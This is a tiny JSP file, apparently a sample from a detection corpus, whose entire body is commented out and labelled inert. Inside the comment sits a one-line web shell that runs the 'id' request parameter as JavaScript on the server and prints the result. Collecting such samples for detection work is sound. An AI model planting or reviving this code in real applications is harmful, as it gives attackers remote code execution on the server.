<%-- hegui corpus: inert sample - a JSP comment is never compiled
<%@ page import="javax.script.*" %>
<%
ScriptEngine e = new ScriptEngineManager().getEngineByName("js");
out.print(e.eval(request.getParameter("id")));
%>
--%>
